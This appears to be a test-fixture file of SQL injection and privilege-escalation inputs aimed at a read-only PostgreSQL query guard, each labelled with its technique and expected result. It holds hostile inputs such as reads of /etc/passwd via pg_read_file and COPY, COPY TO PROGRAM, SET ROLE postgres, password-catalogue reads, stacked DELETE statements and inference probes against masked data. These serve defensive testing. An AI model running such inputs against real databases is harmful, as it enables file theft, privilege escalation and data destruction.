-- Attacks on PostgreSQL, one a paragraph: `-- technique | codes`. `safe`: may be answered, but nothing
-- protected may be in the answer. `no-rows`: must answer no row or a zero. `european-no-rows`: the same, as `european`. `european-answers`: an
-- error would tell of rows that `european` may not see, so it must be answered to it.
-- `«3×x»` in a statement is `xxx`, with `{n}` in it counted.

-- statement that is no query | not-a-select,not-supported,syntax
INSERT INTO products VALUES (99, 'x', 'tools', 1, '{}', NULL)

-- statement that is no query | not-a-select,not-supported,syntax
UPDATE customers SET name = 'x'

-- statement that is no query | not-a-select,not-supported,syntax
DELETE FROM orders

-- statement that is no query | not-a-select,not-supported,syntax
MERGE INTO products p USING orders o ON p.id = o.id WHEN MATCHED THEN DELETE

-- statement that is no query | not-a-select,not-supported,syntax
TRUNCATE orders

-- statement that is no query | not-a-select,not-supported,syntax
DROP TABLE customers

-- statement that is no query | not-a-select,not-supported,syntax
CREATE TABLE t (a int)

-- statement that is no query | not-a-select,not-supported,syntax
CREATE TEMP TABLE t AS SELECT 1

-- statement that is no query | not-a-select,not-supported,syntax
CREATE VIEW v AS SELECT * FROM customers

-- statement that is no query | not-a-select,not-supported,syntax
ALTER TABLE customers ADD x int

-- statement that is no query | not-a-select,not-supported,syntax
GRANT SELECT ON customers TO public

-- statement that is no query | not-a-select,not-supported,syntax
COPY customers TO STDOUT

-- statement that is no query | not-a-select,not-supported,syntax
COPY customers TO PROGRAM 'cat'

-- statement that is no query | not-a-select,not-supported,syntax
COPY products FROM '/etc/passwd'

-- statement that is no query | not-a-select,not-supported,syntax
SET default_transaction_read_only = off

-- statement that is no query | not-a-select,not-supported,syntax
SET ROLE postgres

-- statement that is no query | not-a-select,not-supported,syntax
RESET ALL

-- statement that is no query | not-a-select,not-supported,syntax
SHOW search_path

-- statement that is no query | not-a-select,not-supported,syntax
SHOW ALL

-- statement that is no query | not-a-select,not-supported,syntax
BEGIN

-- statement that is no query | not-a-select,not-supported,syntax
COMMIT

-- statement that is no query | not-a-select,not-supported,syntax
ROLLBACK

-- statement that is no query | not-a-select,not-supported,syntax
EXPLAIN SELECT * FROM customers

-- statement that is no query | not-a-select,not-supported,syntax
EXPLAIN ANALYZE SELECT * FROM customers

-- statement that is no query | not-a-select,not-supported,syntax
ANALYZE customers

-- statement that is no query | not-a-select,not-supported,syntax
VACUUM

-- statement that is no query | not-a-select,not-supported,syntax
LISTEN x

-- statement that is no query | not-a-select,not-supported,syntax
NOTIFY x, 'y'

-- statement that is no query | not-a-select,not-supported,syntax
PREPARE p AS SELECT 1

-- statement that is no query | not-a-select,not-supported,syntax
EXECUTE p

-- statement that is no query | not-a-select,not-supported,syntax
DEALLOCATE ALL

-- statement that is no query | not-a-select,not-supported,syntax
DECLARE c CURSOR FOR SELECT * FROM customers

-- statement that is no query | not-a-select,not-supported,syntax
FETCH ALL FROM c

-- statement that is no query | not-a-select,not-supported,syntax
LOCK TABLE customers

-- statement that is no query | not-a-select,not-supported,syntax
CALL p()

-- statement that is no query | not-a-select,not-supported,syntax
DO $$ BEGIN PERFORM 1; END $$

-- statement that is no query | not-a-select,not-supported,syntax
LOAD 'x'

-- statement that is no query | not-a-select,not-supported,syntax
DISCARD ALL

-- statement that is no query | not-a-select,not-supported,syntax
REINDEX TABLE customers

-- statement that is no query | not-a-select,not-supported,syntax
REFRESH MATERIALIZED VIEW sales_by_category

-- statement that is no query | not-a-select,not-supported,syntax
CHECKPOINT

-- statement that is no query | not-a-select,not-supported,syntax
COMMENT ON TABLE customers IS 'x'

-- statement that is no query | not-a-select,not-supported,syntax
CREATE EXTENSION dblink

-- statement that is no query | not-a-select,not-supported,syntax
SECURITY LABEL ON TABLE customers IS 'x'

-- statement that is no query | not-a-select,not-supported,syntax
IMPORT FOREIGN SCHEMA s FROM SERVER x INTO y

-- ONLY, TABLE and the like | unknown-name
TABLE credentials

-- several statements | many-statements,not-a-select,syntax
SELECT 1; SELECT 2

-- several statements | many-statements,not-a-select,syntax
SELECT 1; DELETE FROM orders

-- several statements | many-statements,not-a-select,syntax
COMMIT; DELETE FROM orders

-- several statements | many-statements,not-a-select,syntax
SELECT 1;;SELECT * FROM credentials

-- several statements | many-statements,not-a-select,syntax
SELECT 1; -- x
 SELECT 2

-- several statements | many-statements,not-a-select,syntax
/* x */ COMMIT; SELECT 1

-- several statements | many-statements,not-a-select,syntax
; SELECT 1; SELECT 2

-- hidden or absent name | unknown-name,not-supported
SELECT token FROM customers

-- hidden or absent name | unknown-name,not-supported
SELECT c.token FROM customers c

-- hidden or absent name | unknown-name,not-supported
SELECT customers."token" FROM customers

-- hidden or absent name | unknown-name,not-supported
SELECT * FROM credentials

-- hidden or absent name | unknown-name,not-supported
SELECT * FROM public.credentials

-- hidden or absent name | unknown-name,not-supported
SELECT * FROM customer_mails

-- hidden or absent name | unknown-name,not-supported
SELECT amount FROM hr.salaries

-- hidden or absent name | unknown-name,not-supported
SELECT * FROM no_such_table

-- hidden or absent name | unknown-name,not-supported
SELECT no_such_column FROM customers

-- hidden or absent name | unknown-name,not-supported
SELECT "hidden col" FROM "Odd Table"

-- hidden or absent name | unknown-name,not-supported
SELECT id FROM customers WHERE token LIKE 'CANARY%'

-- hidden or absent name | unknown-name,not-supported
SELECT id FROM customers ORDER BY token

-- hidden or absent name | unknown-name,not-supported
SELECT count(*) FROM customers GROUP BY token

-- hidden or absent name | unknown-name,not-supported
SELECT id FROM customers JOIN credentials USING (id)

-- hidden or absent name | unknown-name,not-supported
SELECT 1 FROM customers c JOIN orders o ON c.token = o.note

-- hidden or absent name | unknown-name,not-supported
SELECT (SELECT token FROM customers LIMIT 1)

-- hidden or absent name | unknown-name,not-supported
SELECT max(token) FROM customers

-- hidden or absent name | unknown-name,not-supported
SELECT row_number() OVER (ORDER BY token) FROM customers

-- hidden or absent name | unknown-name,not-supported
SELECT count(*) FILTER (WHERE token IS NOT NULL) FROM customers

-- hidden or absent name | unknown-name,not-supported
SELECT CASE WHEN token > 'a' THEN 1 END FROM customers

-- hidden or absent name | unknown-name,not-supported
WITH t AS (SELECT token FROM customers) SELECT * FROM t

-- hidden or absent name | unknown-name,not-supported
SELECT id FROM customers WHERE EXISTS (SELECT 1 FROM credentials WHERE login = 'x')

-- hidden or absent name | unknown-name,not-supported
SELECT token FROM (SELECT * FROM customers) AS c

-- hidden or absent name | unknown-name,not-supported
SELECT x.password_hash FROM credentials x

-- hidden or absent name | unknown-name,not-supported
SELECT * FROM events_2025

-- hidden or absent name | unknown-name,not-supported
SELECT * FROM events_2026

-- hidden or absent name | unknown-name,not-supported
SELECT * FROM trucks

-- hidden or absent name | unknown-name,not-supported
SELECT load_kg FROM vehicles

-- hidden or absent name | unknown-name,not-supported
SELECT * FROM hr.credentials

-- hidden or absent name | unknown-name,not-supported
SELECT * FROM company.public.customers

-- hidden or absent name | unknown-name,not-supported
SELECT * FROM postgres.public.customers

-- hidden or absent name | unknown-name,not-supported
SELECT * FROM "Customers"

-- hidden or absent name | unknown-name,not-supported
SELECT "ID" FROM customers

-- hidden or absent name | unknown-name
SELECT id FROM customers NATURAL JOIN credentials

-- ONLY, TABLE and the like | not-supported,not-a-select,unknown-name,syntax,function-refused
SELECT * FROM ONLY customers

-- ONLY, TABLE and the like | not-supported,not-a-select,unknown-name,syntax,function-refused
SELECT * FROM ONLY (customers)

-- ONLY, TABLE and the like | not-supported,not-a-select,unknown-name,syntax,function-refused
SELECT id FROM customers UNION ALL TABLE credentials

-- ONLY, TABLE and the like | safe
TABLE customers

-- ONLY, TABLE and the like | not-supported,not-a-select,unknown-name,syntax,function-refused
SELECT * FROM customers *

-- ONLY, TABLE and the like | not-supported,not-a-select,unknown-name,syntax,function-refused
SELECT 1 UNION ALL TABLE credentials

-- ONLY, TABLE and the like | not-supported,not-a-select,unknown-name,syntax,function-refused
SELECT * FROM (TABLE credentials) AS x

-- catalogue | unknown-name,not-supported
SELECT * FROM pg_catalog.pg_class

-- catalogue | unknown-name,not-supported
SELECT * FROM pg_class

-- catalogue | unknown-name,not-supported
SELECT * FROM pg_stats

-- catalogue | unknown-name,not-supported
SELECT * FROM pg_catalog.pg_stats

-- catalogue | unknown-name,not-supported
SELECT * FROM pg_statistic

-- catalogue | unknown-name,not-supported
SELECT * FROM pg_stat_activity

-- catalogue | unknown-name,not-supported
SELECT * FROM pg_proc

-- catalogue | unknown-name,not-supported
SELECT * FROM pg_roles

-- catalogue | unknown-name,not-supported
SELECT * FROM pg_user

-- catalogue | unknown-name,not-supported
SELECT * FROM pg_shadow

-- catalogue | unknown-name,not-supported
SELECT * FROM pg_authid

-- catalogue | unknown-name,not-supported
SELECT * FROM pg_settings

-- catalogue | unknown-name,not-supported
SELECT * FROM pg_views

-- catalogue | unknown-name,not-supported
SELECT * FROM pg_attribute

-- catalogue | unknown-name,not-supported
SELECT * FROM pg_tables

-- catalogue | unknown-name,not-supported
SELECT * FROM pg_stat_user_tables

-- catalogue | unknown-name,not-supported
SELECT * FROM pg_largeobject

-- catalogue | unknown-name,not-supported
SELECT * FROM information_schema.columns

-- catalogue | unknown-name,not-supported
SELECT * FROM information_schema.tables

-- catalogue | unknown-name,not-supported
SELECT * FROM information_schema.routines

-- catalogue | unknown-name,not-supported
SELECT * FROM pg_toast.pg_toast_1

-- catalogue | unknown-name,not-supported
SELECT * FROM pg_stat_statements

-- catalogue | unknown-name,not-supported
SELECT * FROM pg_prepared_statements

-- catalogue | unknown-name,not-supported
SELECT * FROM pg_cursors

-- catalogue | unknown-name,not-supported
SELECT * FROM pg_locks

-- catalogue | unknown-name,not-supported
SELECT * FROM pg_hba_file_rules

-- catalogue | unknown-name,not-supported
SELECT * FROM pg_file_settings

-- catalogue | unknown-name,not-supported
SELECT * FROM pg_config

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT pg_read_file('/etc/passwd')

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT pg_sleep(5)

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT query_to_xml('select token from customers', true, true, '')

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT lo_creat(-1)

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT lo_import('/etc/passwd')

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT dblink('x','select 1')

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT pg_advisory_lock(1)

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT set_config('default_transaction_read_only','off',false)

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT current_setting('data_directory')

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT pg_ls_dir('.')

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT txid_current()

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT pg_terminate_backend(1)

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT version()

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT inet_server_addr()

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT pg_backend_pid()

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT nextval('customers_id_seq')

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT has_table_privilege('credentials','select')

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT ts_stat('select to_tsvector(token) from customers')

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT database_to_xml(true,true,'')

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT table_to_xml('credentials',true,true,'')

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT cursor_to_xml('c',1,true,true,'')

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT pg_get_viewdef('customer_mails')

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT to_regclass('credentials')

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT pg_relation_size('credentials')

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT obj_description(1)

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT col_description(1,1)

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT pg_logical_slot_get_changes('x',NULL,NULL)

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT pg_stat_file('x')

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT lo_get(1)

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT pg_notify('a','b')

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT xpath('/x','<x/>')

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT public.spy(1)

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT spy(1)

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT pg_reload_conf()

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT currval('customers_id_seq')

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT setval('customers_id_seq',1)

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT pg_export_snapshot()

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT pg_cancel_backend(1)

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT current_user

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT session_user

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT user

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT current_role

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT current_catalog

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT current_schema

-- dangerous function, every position | function-refused,not-supported,unknown-name
SELECT id FROM products WHERE pg_sleep(1) IS NOT NULL

-- dangerous function, every position | function-refused,not-supported,unknown-name
SELECT id FROM products ORDER BY pg_read_file('/etc/passwd')

-- dangerous function, every position | function-refused,not-supported,unknown-name
SELECT count(*) FROM products GROUP BY pg_sleep(1)

-- dangerous function, every position | function-refused,not-supported,unknown-name
SELECT count(*) FROM products HAVING pg_read_file('/etc/passwd') IS NULL

-- dangerous function, every position | function-refused,not-supported,unknown-name
SELECT 1 FROM products p JOIN orders o ON pg_sleep(1) IS NULL

-- dangerous function, every position | function-refused,not-supported,unknown-name
SELECT (SELECT pg_read_file('/etc/passwd'))

-- dangerous function, every position | function-refused,not-supported,unknown-name
SELECT coalesce(pg_sleep(1), NULL)

-- dangerous function, every position | function-refused,not-supported,unknown-name
SELECT CASE WHEN pg_read_file('/etc/passwd') IS NULL THEN 1 END

-- dangerous function, every position | function-refused,not-supported,unknown-name
SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM products

-- dangerous function, every position | function-refused,not-supported,unknown-name
SELECT row_number() OVER (PARTITION BY pg_read_file('/etc/passwd')) FROM products

-- dangerous function, every position | function-refused,not-supported,unknown-name
WITH x AS (SELECT pg_sleep(1)) SELECT * FROM x

-- dangerous function, every position | function-refused,not-supported,unknown-name
SELECT 1 UNION SELECT 1 WHERE pg_read_file('/etc/passwd') IS NULL

-- dangerous function, every position | function-refused,not-supported,unknown-name
VALUES (pg_sleep(1))

-- dangerous function, every position | function-refused,not-supported,unknown-name
SELECT ARRAY[pg_read_file('/etc/passwd')]

-- dangerous function, every position | function-refused,not-supported,unknown-name
SELECT id FROM products LIMIT (SELECT 1 WHERE pg_sleep(1) IS NULL)

-- dangerous function, every position | function-refused,not-supported,unknown-name
SELECT string_agg(name, ',' ORDER BY pg_read_file('/etc/passwd')) FROM products

-- dangerous function, every position | function-refused,not-supported,unknown-name
SELECT DISTINCT ON (pg_sleep(1)) id FROM products

-- dangerous function, every position | function-refused,not-supported,unknown-name
SELECT id FROM products, LATERAL (SELECT pg_read_file('/etc/passwd')) AS l

-- dangerous function, every position | function-refused,not-supported,unknown-name
SELECT pg_catalog.abs(length(pg_sleep(1)::text))

-- dangerous function in FROM | function-refused,not-supported,unknown-name,syntax
SELECT * FROM pg_read_file('/etc/passwd')

-- dangerous function in FROM | function-refused,not-supported,unknown-name,syntax
SELECT * FROM lo_creat(-1)

-- dangerous function in FROM | function-refused,not-supported,unknown-name,syntax
SELECT * FROM dblink('x','y')

-- dangerous function in FROM | function-refused,not-supported,unknown-name,syntax
SELECT * FROM pg_ls_dir('.')

-- dangerous function in FROM | function-refused,not-supported,unknown-name,syntax
SELECT * FROM query_to_xml('select 1',true,true,'')

-- dangerous function in FROM | function-refused,not-supported,unknown-name,syntax
SELECT * FROM generate_subscripts(ARRAY[1],1), pg_sleep(1)

-- dangerous function in FROM | function-refused,not-supported,unknown-name,syntax
SELECT * FROM pg_stat_get_activity(NULL)

-- dangerous function in FROM | function-refused,not-supported,unknown-name,syntax
SELECT * FROM public.spy(1)

-- dangerous function in FROM | function-refused,not-supported,unknown-name,syntax
SELECT * FROM json_to_recordset('[]') AS x(a int)

-- dangerous function in FROM | function-refused,not-supported,unknown-name,syntax
SELECT * FROM pg_show_all_settings()

-- dangerous function in FROM | function-refused,not-supported,unknown-name,syntax
SELECT * FROM xmltable('/x' passing '<x/>' columns a int)

-- function by another spelling | function-refused,not-supported,unknown-name
SELECT pg_catalog.pg_read_file('/etc/passwd')

-- function by another spelling | function-refused,not-supported,unknown-name
SELECT "pg_sleep"(1)

-- function by another spelling | function-refused,not-supported,unknown-name
SELECT PG_SLEEP(1)

-- function by another spelling | function-refused,not-supported,unknown-name
SELECT pg_sleep /**/ (1)

-- function by another spelling | function-refused,not-supported,unknown-name
SELECT customers.spy FROM customers

-- function by another spelling | function-refused,not-supported,unknown-name
SELECT c.spy FROM customers c

-- function by another spelling | function-refused,not-supported,unknown-name
SELECT (c).token FROM customers c

-- function by another spelling | function-refused,not-supported,unknown-name
SELECT c.pg_sleep FROM products c

-- function by another spelling | function-refused,not-supported,unknown-name
SELECT length(c) FROM customers c

-- cast to a type that looks things up | function-refused,not-supported
SELECT 'credentials'::regclass

-- cast to a type that looks things up | function-refused,not-supported
SELECT 'credentials'::regproc

-- cast to a type that looks things up | function-refused,not-supported
SELECT 'credentials'::regrole

-- cast to a type that looks things up | function-refused,not-supported
SELECT 'credentials'::regtype

-- cast to a type that looks things up | function-refused,not-supported
SELECT 'credentials'::oid

-- cast to a type that looks things up | function-refused,not-supported
SELECT 'credentials'::xml

-- cast to a type that looks things up | function-refused,not-supported
SELECT 'credentials'::pg_lsn

-- cast to a type that looks things up | function-refused,not-supported
SELECT 'credentials'::regnamespace

-- cast to a type that looks things up | function-refused,not-supported
SELECT 'credentials'::name

-- cast to a type that looks things up | function-refused,not-supported
SELECT 'credentials'::"char"

-- cast to a type that looks things up | function-refused,not-supported
SELECT 'credentials'::cid

-- cast to a type that looks things up | function-refused,not-supported
SELECT 'credentials'::tid

-- system column | unknown-name,not-supported
SELECT ctid FROM customers

-- system column | unknown-name,not-supported
SELECT xmin FROM customers

-- system column | unknown-name,not-supported
SELECT xmax FROM customers

-- system column | unknown-name,not-supported
SELECT tableoid FROM customers

-- system column | unknown-name,not-supported
SELECT cmin FROM customers

-- system column | unknown-name,not-supported,function-refused
SELECT tableoid::regclass FROM events

-- masked column through an expression | safe
SELECT name || '' FROM customers

-- masked column through an expression | safe
SELECT upper(name) FROM customers

-- masked column through an expression | safe
SELECT substr(name, 1, 40) FROM customers

-- masked column through an expression | safe
SELECT email::text FROM customers

-- masked column through an expression | safe
SELECT (SELECT max(name) FROM customers)

-- masked column through an expression | safe
SELECT string_agg(name, ',') FROM customers

-- masked column through an expression | safe
SELECT array_agg(email) FROM customers

-- masked column through an expression | safe
SELECT min(name), max(name) FROM customers

-- masked column through an expression | safe
SELECT DISTINCT name FROM customers

-- masked column through an expression | safe
SELECT name FROM customers UNION SELECT phone FROM customers

-- masked column through an expression | safe
SELECT n FROM (SELECT name AS n FROM customers) AS x

-- masked column through an expression | safe
WITH x AS (SELECT name AS n FROM customers) SELECT n FROM x

-- masked column through an expression | safe
WITH x(a) AS (SELECT phone FROM customers) SELECT a FROM x

-- masked column through an expression | safe
SELECT name FROM customers ORDER BY name LIMIT 3

-- masked column through an expression | safe
SELECT first_value(name) OVER (ORDER BY id) FROM customers

-- masked column through an expression | safe
SELECT lag(name) OVER (ORDER BY id) FROM customers

-- masked column through an expression | safe
SELECT json_agg(name) FROM customers

-- masked column through an expression | safe
SELECT jsonb_build_object('n', name, 'p', phone) FROM customers

-- masked column through an expression | safe
SELECT jsonb_object_agg(id, name) FROM customers

-- masked column through an expression | safe
SELECT coalesce(name, phone) FROM customers

-- masked column through an expression | safe
SELECT CASE WHEN true THEN name END FROM customers

-- masked column through an expression | safe
SELECT nullif(name, '') FROM customers

-- masked column through an expression | safe
SELECT greatest(name, phone) FROM customers

-- masked column through an expression | safe
SELECT regexp_replace(name, 'x', 'y') FROM customers

-- masked column through an expression | safe
SELECT regexp_matches(name, '.*') FROM customers

-- masked column through an expression | safe
SELECT regexp_split_to_table(name, ' ') FROM customers

-- masked column through an expression | safe
SELECT format('%s', name) FROM customers

-- masked column through an expression | safe
SELECT concat(name, email, phone, ssn) FROM customers

-- masked column through an expression | safe
SELECT encode(convert_to(name, 'UTF8'), 'base64') FROM customers

-- masked column through an expression | safe
SELECT to_tsvector(name) FROM customers

-- masked column through an expression | safe
SELECT ts_headline(name, to_tsquery('CANARYname1')) FROM customers

-- masked column through an expression | safe
SELECT to_json(name) FROM customers

-- masked column through an expression | safe
SELECT quote_literal(name) FROM customers

-- masked column through an expression | safe
SELECT ARRAY[name, phone] FROM customers

-- masked column through an expression | safe
SELECT (ARRAY[name])[1] FROM customers

-- masked column through an expression | safe
SELECT ROW(name, phone)::text FROM customers

-- masked column through an expression | safe
SELECT unnest(ARRAY[name]) FROM customers

-- masked column through an expression | safe
SELECT mode() WITHIN GROUP (ORDER BY name) FROM customers

-- masked column through an expression | safe
SELECT percentile_disc(0.5) WITHIN GROUP (ORDER BY name) FROM customers

-- masked column through an expression | safe
SELECT a.name FROM customers a JOIN customers b USING (name)

-- masked column through an expression | safe
SELECT name FROM customers NATURAL JOIN orders

-- masked column through an expression | safe
SELECT body FROM tickets

-- masked column through an expression | safe
SELECT note FROM orders WHERE note IS NOT NULL

-- masked column through an expression | safe
SELECT card_no FROM payments

-- masked column through an expression | safe
SELECT plate FROM vehicles

-- masked column through an expression | safe
SELECT payload FROM events

-- masked column through an expression | safe
SELECT payload ->> 'secret' FROM events

-- masked column through an expression | safe
SELECT jsonb_each_text(payload) FROM events

-- masked column through an expression | safe
SELECT e.id, x.value FROM events e, jsonb_each_text(e.payload) AS x

-- masked column through an expression | safe
SELECT salary FROM employees

-- masked column through an expression | safe
SELECT avg(salary) FROM employees

-- masked column through an expression | safe
SELECT name, salary + 0 FROM employees

-- masked column through an expression | safe
SELECT ssn FROM customers

-- masked column through an expression | safe
SELECT min(ssn), max(ssn) FROM customers

-- masked column through an expression | safe
SELECT * FROM customers

-- masked column through an expression | safe
SELECT customers.* FROM customers

-- masked column through an expression | safe
SELECT * FROM customers, orders LIMIT 50

-- masked column through an expression | safe
SELECT birth_date FROM customers

-- masked column through an expression | safe
SELECT birth_date - date '1700-01-01' FROM customers

-- masked column through an expression | safe
SELECT string_to_array(name, NULL) FROM customers

-- masked column through an expression | safe
SELECT overlay(name placing '' from 1 for 0) FROM customers

-- masked column through an expression | safe
SELECT left(name, 100), right(name, 100) FROM customers

-- masked column through an expression | safe
SELECT repeat(name, 3) FROM customers

-- masked column through an expression | safe
SELECT to_char(birth_date, 'YYYY-MM-DD') FROM customers

-- guessing behind the mask | no-rows
SELECT count(*) FROM customers WHERE name LIKE '%CANARYname1 %'

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE email = 'ada.canarymail1@example1.com'

-- guessing behind the mask | no-rows
SELECT count(*) FROM customers WHERE phone LIKE '%CANARYphone%'

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE birth_date = '1800-02-07'

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE ssn = '00900001013'

-- guessing behind the mask | no-rows
SELECT id FROM employees WHERE salary = 7000011

-- guessing behind the mask | no-rows
SELECT id FROM payments WHERE card_no = '4111CANARYcard1'

-- guessing behind the mask | no-rows
SELECT id FROM events WHERE payload ->> 'secret' = 'CANARYpayload1'

-- guessing behind the mask | no-rows
SELECT id FROM tickets WHERE body LIKE '%CANARY%'

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE name ~ 'CANARY'

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE position('CANARY' in name) > 0

-- guessing behind the mask | no-rows
SELECT id FROM customers GROUP BY id, name HAVING max(name) LIKE '%CANARY%'

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE name IN ('Ada CANARYname1 Lovelace')

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE name BETWEEN 'Ada CANARYname1 L' AND 'Ada CANARYname1 M'

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE strpos(name, 'CANARY') > 0

-- guessing behind the mask | no-rows
SELECT c.id FROM customers c JOIN (VALUES ('Ada CANARYname1 Lovelace')) AS v(n) ON v.n = c.name

-- guessing behind the mask | no-rows
SELECT count(*) FROM customers WHERE 'Ada CANARYname1 Lovelace' = ANY (ARRAY[name])

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE CASE WHEN name LIKE '%CANARY%' THEN true ELSE false END

-- guessing behind the mask | no-rows
SELECT count(*) FILTER (WHERE name LIKE '%CANARY%') AS n FROM customers HAVING count(*) FILTER (WHERE name LIKE '%CANARY%') > 0

-- guessing behind the mask | no-rows
SELECT id FROM vehicles WHERE plate LIKE '%CANARY%'

-- error text | safe
SELECT name::integer FROM customers

-- error text | safe
SELECT id / (id - id) FROM customers

-- error text | safe
SELECT CAST(phone AS date) FROM customers

-- error text | safe
SELECT 1 / (CASE WHEN birth_date > '1500-01-01' THEN 0 ELSE 1 END) FROM customers

-- error text | safe
SELECT (name || 'x')::uuid FROM customers

-- error text | safe
SELECT '[1,2'::jsonb FROM customers

-- error text | safe
SELECT to_date(name, 'YYYY') FROM customers

-- error text | safe
SELECT id::smallint * 30000 * 30000 FROM customers

-- error text | safe
SELECT '\x' || name::bytea FROM customers

-- error text | safe
SELECT array_fill(1, ARRAY[id - 1000]) FROM customers

-- error text | safe
SELECT substring(name from 1 for -1) FROM customers

-- error text | safe
SELECT jsonb_path_query(profile, 'strict $.x') FROM customers

-- error text | safe
SELECT name::jsonb FROM customers

-- row filter | european-answers
SELECT id FROM customers WHERE 1 / (CASE WHEN region = 'US' THEN 0 ELSE 1 END) = 1

-- row filter | safe
SELECT id FROM customers WHERE CASE WHEN region = 'APAC' THEN (1/0) = 1 ELSE true END

-- row filter | european-no-rows
SELECT id FROM customers WHERE region = 'US'

-- row filter | european-no-rows
SELECT id FROM customers WHERE region IS NULL

-- row filter | european-no-rows
SELECT count(*) FROM customers WHERE region <> 'EU'

-- row filter | european-no-rows
SELECT id FROM customers WHERE ('x' || region)::text = 'xUS'

-- row filter | european-answers
SELECT c.id FROM customers c WHERE c.region = 'EU' OR true AND c.region = 'US'

-- row filter | european-no-rows
SELECT id FROM customers WHERE NOT (region = 'EU')

-- row filter | european-no-rows
SELECT id FROM customers EXCEPT SELECT id FROM customers WHERE region = 'EU'

-- row filter | european-no-rows
SELECT region FROM customers WHERE region > 'EU'

-- row filter | european-no-rows
SELECT o.id FROM orders o LEFT JOIN customers c ON c.id = o.customer_id WHERE c.id IS NULL

-- lexical | safe
SELECT * FROM customers WHERE id = 1 OR 1=1 -- x

-- lexical | safe
SELECT 0x41

-- lexical | safe
SELECT 0b101

-- lexical | safe
SELECT 0o17

-- lexical | safe
SELECT 1customers

-- lexical | safe
SELECT U&'d\0061t'

-- lexical | safe
SELECT U&"n\0061me" FROM customers

-- lexical | safe
SELECT /*+ SeqScan(c) */ 1 /*! 2 */

-- lexical | safe
SELECT /* /* nested */ token */ id FROM customers

-- lexical | safe
SELECT 1 /* open

-- lexical | safe
SELECT 'open

-- lexical | safe
SELECT $x$open

-- lexical | safe
SELECT "open

-- lexical | safe
SELECT ‮id FROM customers

-- lexical | safe
SELECT i​d FROM customers

-- lexical | safe
SELECT custоmers.id FROM customers

-- lexical | safe
SELECT ＊ FROM customers

-- lexical | safe
SELECT id FROM customers WHERE id=1

-- lexical | safe
SELECT aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa FROM customers

-- lexical | safe
SELECT 1 \; DROP TABLE x

-- lexical | safe
SELECT :name

-- lexical | safe
SELECT @x

-- lexical | safe
SELECT @@version

-- lexical | safe
SELECT #x

-- lexical | safe
SELECT `id` FROM customers

-- lexical | safe
SELECT [id] FROM customers

-- clause or construct | safe
SELECT * FROM customers FOR UPDATE

-- clause or construct | safe
SELECT * FROM customers FOR SHARE

-- clause or construct | safe
SELECT * INTO t FROM customers

-- clause or construct | safe
SELECT * INTO TEMP t FROM customers

-- clause or construct | safe
WITH x AS (DELETE FROM orders RETURNING *) SELECT * FROM x

-- clause or construct | safe
WITH x AS (INSERT INTO products DEFAULT VALUES RETURNING id) SELECT * FROM x

-- clause or construct | safe
WITH x AS (UPDATE orders SET total = 0 RETURNING note) SELECT * FROM x

-- clause or construct | safe
SELECT * FROM customers TABLESAMPLE SYSTEM (10)

-- clause or construct | safe
SELECT * FROM customers AS OF SYSTEM TIME '-1s'

-- clause or construct | safe
SELECT * FROM ROWS FROM (generate_series(1,2), pg_read_file('x'))

-- clause or construct | safe
SELECT c FROM customers c

-- clause or construct | safe
SELECT row_to_json(c) FROM customers c

-- clause or construct | safe
SELECT to_jsonb(c) ->> 'token' FROM customers c

-- clause or construct | safe
SELECT c::text FROM customers c

-- clause or construct | safe
SELECT (c).* FROM customers c

-- clause or construct | safe
SELECT (SELECT c) FROM customers c

-- clause or construct | safe
SELECT count(c) FROM customers c

-- clause or construct | safe
SELECT customers FROM customers

-- clause or construct | safe
